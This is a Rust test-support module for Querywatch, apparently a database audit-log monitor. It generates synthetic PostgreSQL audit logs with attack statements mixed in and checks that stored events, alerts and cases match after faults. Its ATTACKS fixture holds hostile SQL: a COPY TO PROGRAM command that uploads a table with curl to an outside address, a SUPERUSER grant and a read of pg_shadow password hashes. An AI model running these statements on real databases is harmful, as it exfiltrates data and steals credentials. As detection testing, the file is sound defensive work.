//! What must be true after any fault: a writer of numbered sessions with attacks in them, and the
//! checker that compares what is stored with what was written.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs::{File, OpenOptions};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::binary::{Querywatch, path_text};
use crate::fixed_models::FixedModels;

/// Accounts that work; their events travel on different partitions.
const ACCOUNTS: [&str; 12] =
    ["ana", "bo", "carla", "dev", "etl", "finn", "grace", "hugo", "ines", "jobs", "kim", "lena"];

/// Statements that a rule is for; each is an alert.
const ATTACKS: [&str; 4] = [
    "COPY shop.orders TO PROGRAM 'curl -T - http://198.51.100.7/'",
    "ALTER ROLE app SUPERUSER",
    "SELECT usename, passwd FROM pg_shadow",
    "SELECT pg_sleep(30)",
];

/// Writes the log of one server until it is told to stop.
pub struct Logger {
    path: PathBuf,
    stop: Arc<AtomicBool>,
    thread: JoinHandle<usize>,
}

impl Logger {
    /// Writes `folder`/postgresql.csv, a few thousand lines a second.
    pub fn start(folder: &Path, seed: u64) -> Self {
        std::fs::create_dir_all(folder).expect("a log folder");
        let path = folder.join("postgresql.csv");
        let (stop, file) = (Arc::new(AtomicBool::new(false)), append_to(&path));
        let stopped = stop.clone();
        let thread = std::thread::spawn(move || {
            let (mut writer, mut file) = (Writer::new(seed), file);
            while !stopped.load(SeqCst) {
                file.write_all(writer.some_lines().as_bytes()).expect("appended");
                std::thread::sleep(Duration::from_millis(4));
            }
            file.write_all(writer.last_lines().as_bytes()).expect("appended");
            writer.lines
        });
        Self { path, stop, thread }
    }

    /// The log.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Ends the log; says how many lines it has.
    pub fn stop(self) -> usize {
        self.stop.store(true, SeqCst);
        self.thread.join().expect("the logger ends")
    }
}

/// Writes so many lines at once.
pub fn write_lines(folder: &Path, seed: u64, lines: usize) -> PathBuf {
    std::fs::create_dir_all(folder).expect("a log folder");
    let path = folder.join("postgresql.csv");
    let (mut writer, mut file) = (Writer::new(seed), append_to(&path));
    while writer.lines < lines {
        file.write_all(writer.some_lines().as_bytes()).expect("appended");
    }
    file.write_all(writer.last_lines().as_bytes()).expect("appended");
    path
}

fn append_to(path: &Path) -> File {
    OpenOptions::new().create(true).append(true).open(path).expect("a log file")
}

/// A log that grows now: the time of its lines is the time at which they are made.
pub struct Live {
    pub file: File,
    lines: u64,
}

#[allow(dead_code, reason = "for benches")]
impl Live {
    /// Makes `folder`/postgresql.csv.
    pub fn open(folder: &Path) -> Self {
        std::fs::create_dir_all(folder).expect("a log folder");
        Self { file: append_to(&folder.join("postgresql.csv")), lines: 0 }
    }

    /// A statement of one account or another.
    pub fn ordinary(&mut self) -> String {
        self.lines += 1;
        let account = self.lines % ACCOUNTS.len() as u64;
        let number = self.lines / ACCOUNTS.len() as u64 + 1;
        let sql = format!("SELECT id, total FROM shop.orders WHERE id = {}", self.lines);
        self.line(ACCOUNTS[account as usize], account, number, &sql)
    }

    /// A statement that is an alert, by an account of its own; says which.
    pub fn attack(&mut self) -> (String, String) {
        self.lines += 1;
        let user = format!("intruder{}", self.lines);
        let sql = format!("ALTER ROLE u{} SUPERUSER", self.lines);
        let line = self.line(&user, 1_000_000 + self.lines, 1, &sql);
        (user, line)
    }

    fn line(&self, user: &str, session: u64, number: u64, sql: &str) -> String {
        let now = chrono::DateTime::<chrono::Utc>::from(std::time::SystemTime::now());
        let stamp = now.format("%Y-%m-%d %H:%M:%S%.3f");
        format!(
            "{stamp} UTC,\"{user}\",\"shop\",{session},\"10.1.2.3:51022\",67c42e10.{session:x},\
             {number},\"SELECT\",2026-11-16 00:00:00 UTC,3/17,0,LOG,00000,\
             \"AUDIT: SESSION,{number},1,READ,SELECT,,,\"\"{sql}\"\",<none>\",,,,,,,,,\"app\",\
             \"client backend\",,0\n"
        )
    }
}

/// Sessions that log in, work, now and then attack, and log out.
struct Writer {
    random: StdRng,
    lines: usize,
    milliseconds: i64,
    sessions: Vec<Session>,
    opened: u32,
    text: String,
}

struct Session {
    account: &'static str,
    id: u32,
    lines: u32,
    statements: u32,
}

impl Writer {
    fn new(seed: u64) -> Self {
        let random = StdRng::seed_from_u64(seed);
        let (text, sessions) = (String::new(), Vec::new());
        Self { random, lines: 0, milliseconds: 0, sessions, opened: 0, text }
    }

    fn some_lines(&mut self) -> String {
        for _ in 0..self.random.random_range(1..60) {
            match self.random.random_range(0..1_000) {
                0..30 => self.log_in(),
                30..40 => self.log_out(),
                40..46 => self.fail_to_log_in(),
                _ => self.work(),
            }
        }
        std::mem::take(&mut self.text)
    }

    fn last_lines(&mut self) -> String {
        while !self.sessions.is_empty() {
            self.log_out();
        }
        std::mem::take(&mut self.text)
    }

    fn log_in(&mut self) {
        let account = ACCOUNTS[self.random.random_range(0..ACCOUNTS.len())];
        self.opened += 1;
        let session = Session { account, id: self.opened, lines: 0, statements: 0 };
        let message = format!("connection authorized: user={account} database=shop");
        self.sessions.push(session);
        self.line(self.sessions.len() - 1, "authentication", "LOG", "00000", &message);
    }

    fn log_out(&mut self) {
        if self.sessions.is_empty() {
            return;
        }
        let index = self.random.random_range(0..self.sessions.len());
        let account = self.sessions[index].account;
        let message = format!(
            "disconnection: session time: 0:00:01.000 user={account} database=shop \
             host=10.1.2.3 port=51022"
        );
        self.line(index, "idle", "LOG", "00000", &message);
        self.sessions.swap_remove(index);
    }

    /// Sprays a password over accounts, from one network or another.
    fn fail_to_log_in(&mut self) {
        let account = ACCOUNTS[self.random.random_range(0..ACCOUNTS.len())];
        self.opened += 1;
        self.sessions.push(Session { account, id: self.opened, lines: 0, statements: 0 });
        let message = format!("password authentication failed for user \"{account}\"");
        self.line(self.sessions.len() - 1, "authentication", "FATAL", "28P01", &message);
        self.sessions.pop();
    }

    fn work(&mut self) {
        if self.sessions.is_empty() {
            return self.log_in();
        }
        let index = self.random.random_range(0..self.sessions.len());
        let sql = match self.random.random_range(0..400) {
            0 => ATTACKS[self.random.random_range(0..ATTACKS.len())].to_owned(),
            _ => format!("SELECT * FROM shop.orders WHERE id = {}", self.lines),
        };
        // A line that got lost before the log: an alert, and no reason to stumble.
        let step = if self.random.random_range(0..2_000) == 0 { 2 } else { 1 };
        let session = &mut self.sessions[index];
        session.statements += step;
        let message = format!(
            "AUDIT: SESSION,{},1,READ,SELECT,,,\"{}\",<none>",
            session.statements,
            sql.replace('"', "\"\"")
        );
        self.line(index, "SELECT", "LOG", "00000", &message);
    }

    fn line(&mut self, index: usize, tag: &str, level: &str, code: &str, message: &str) {
        self.milliseconds += self.random.random_range(1..40);
        self.lines += 1;
        let session = &mut self.sessions[index];
        session.lines += 1;
        let time = chrono::DateTime::from_timestamp_millis(1_794_787_200_000 + self.milliseconds);
        let stamp = time.expect("a time").format("%Y-%m-%d %H:%M:%S%.3f");
        let (account, id, number) = (session.account, session.id, session.lines);
        let network = id % 3;
        let quoted = message.replace('"', "\"\"");
        let _ = writeln!(
            self.text,
            "{stamp} UTC,\"{account}\",\"shop\",{id},\"10.1.{network}.3:51022\",67c42e10.{id:x},\
             {number},\"{tag}\",2026-11-16 00:00:00 UTC,3/17,0,{level},{code},\"{quoted}\",,,,,,,,,\
             \"app\",\"client backend\",,0"
        );
    }
}

/// What one machine makes of the same logs, without faults: what must have come of them.
pub struct Expected {
    oracle: Querywatch,
    events: String,
    alerts: String,
    cases: String,
    cases_query: &'static str,
}

/// Every event, but for when it was read.
const EVENTS: &str = "SELECT id, time, instance, \"user\", action, command, session, \
    statement_number, statement, fingerprint, flags, outcome, rules, risk FROM events \
    WHERE engine = 'postgresql' ORDER BY id";

const ALERTS: &str = "SELECT * FROM alerts ORDER BY id";

const CASES: &str = "SELECT * FROM cases ORDER BY id";

/// `ingest` trains models as it goes, which `run` does not have.
const CASES_WITHOUT_MODELS: &str = "SELECT * EXCEPT (models) FROM cases ORDER BY id";

impl Expected {
    /// Ingests the logs of (instance, file).
    pub fn of(logs: &[(&str, &Path)]) -> Self {
        let oracle = Querywatch::new();
        let data = oracle.data();
        for (instance, log) in logs {
            let arguments =
                ["ingest", "--data", path_text(&data), "--instance", instance, path_text(log)];
            oracle.succeed(&arguments);
        }
        Self::told_by(oracle, CASES_WITHOUT_MODELS)
    }

    /// Has one `run` read them, with models that do not change: `ingest` would train others.
    pub fn with(models: &FixedModels, logs: &[(&str, &Path)]) -> Self {
        let (events, oracle) = (Self::of(logs).events(), Querywatch::new());
        models.put(&oracle);
        let source = |(instance, log): &(&str, &Path)| {
            let path = path_text(log);
            format!("[[sources]]\nname = {instance:?}\nfiles.paths = [{path:?}]\n")
        };
        let settings = oracle.folder().join("settings.toml");
        let sources: String = logs.iter().map(source).collect();
        let text = format!(
            "data = {:?}\n[query]\naddress = \"127.0.0.1:0\"\n{sources}",
            path_text(&oracle.data())
        );
        std::fs::write(&settings, text).expect("settings are written");
        let mut process = oracle.start(&settings);
        wait_for_rows(&oracle, events);
        process.terminate();
        assert!(process.wait().expect("ended").success());
        Self::told_by(oracle, CASES)
    }

    fn told_by(oracle: Querywatch, cases_query: &'static str) -> Self {
        let (events, alerts) = (ndjson(&oracle, EVENTS), ndjson(&oracle, ALERTS));
        assert!(alerts.lines().count() > 0, "the logs hold attacks");
        let cases = ndjson(&oracle, cases_query);
        Self { oracle, events, alerts, cases, cases_query }
    }

    /// Events that must be there.
    pub fn events(&self) -> usize {
        self.events.lines().count()
    }

    /// Alerts that must be there.
    pub fn alerts(&self) -> usize {
        self.alerts.lines().count()
    }

    /// Alerts of baselines that must be there.
    pub fn baseline_alerts(&self) -> usize {
        self.alerts.lines().filter(|line| line.contains("\"baseline.")).count()
    }

    /// Rejects that must be there.
    pub fn rejects(&self) -> i64 {
        self.oracle.number("SELECT count(*) FROM rejects")
    }

    /// Nothing is lost, nothing is there twice, and no alert or case is missing, more or different.
    pub fn assert_same(&self, querywatch: &Querywatch) {
        assert_lines_equal("event", &self.events, &ndjson(querywatch, EVENTS));
        assert_lines_equal("alert", &self.alerts, &ndjson(querywatch, ALERTS));
        assert_lines_equal("case", &self.cases, &ndjson(querywatch, self.cases_query));
        assert_eq!(querywatch.number("SELECT count(*) FROM rejects"), self.rejects());
    }
}

/// Waits until so many events of databases are stored.
pub fn wait_for_rows(querywatch: &Querywatch, rows: usize) {
    let until = Instant::now() + Duration::from_secs(60);
    let count = "SELECT count(*) FROM events WHERE engine = 'postgresql'";
    let tables = ["events", "rejects"].map(|table| querywatch.data().join("lake").join(table));
    let is_made = || tables.iter().all(|table| table.join("_delta_log").is_dir());
    while !is_made() || querywatch.number(count) < rows as i64 {
        assert!(Instant::now() < until, "{rows} rows are expected");
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn ndjson(querywatch: &Querywatch, query: &str) -> String {
    let data = querywatch.data();
    let mut command =
        querywatch.command(&["sql", "--data", path_text(&data), "--output", "ndjson", query]);
    // A million rows in order are more than a query may take by itself.
    command.env("QUERYWATCH__QUERY__MEMORY_BYTES", "4294967296");
    let output = command.output().expect("the program starts");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("text")
}

/// Says what is missing and what is too much: a diff of thousands of lines says nothing.
fn assert_lines_equal(what: &str, expected: &str, found: &str) {
    if expected == found {
        return;
    }
    let (wanted, there): (BTreeSet<&str>, BTreeSet<&str>) =
        (expected.lines().collect(), found.lines().collect());
    let missing: Vec<_> = wanted.difference(&there).take(3).collect();
    let extra: Vec<_> = there.difference(&wanted).take(3).collect();
    panic!(
        "{} {what}s expected, {} found ({} different); missing: {missing:#?}; not expected: \
         {extra:#?}",
        expected.lines().count(),
        found.lines().count(),
        there.len(),
    );
}
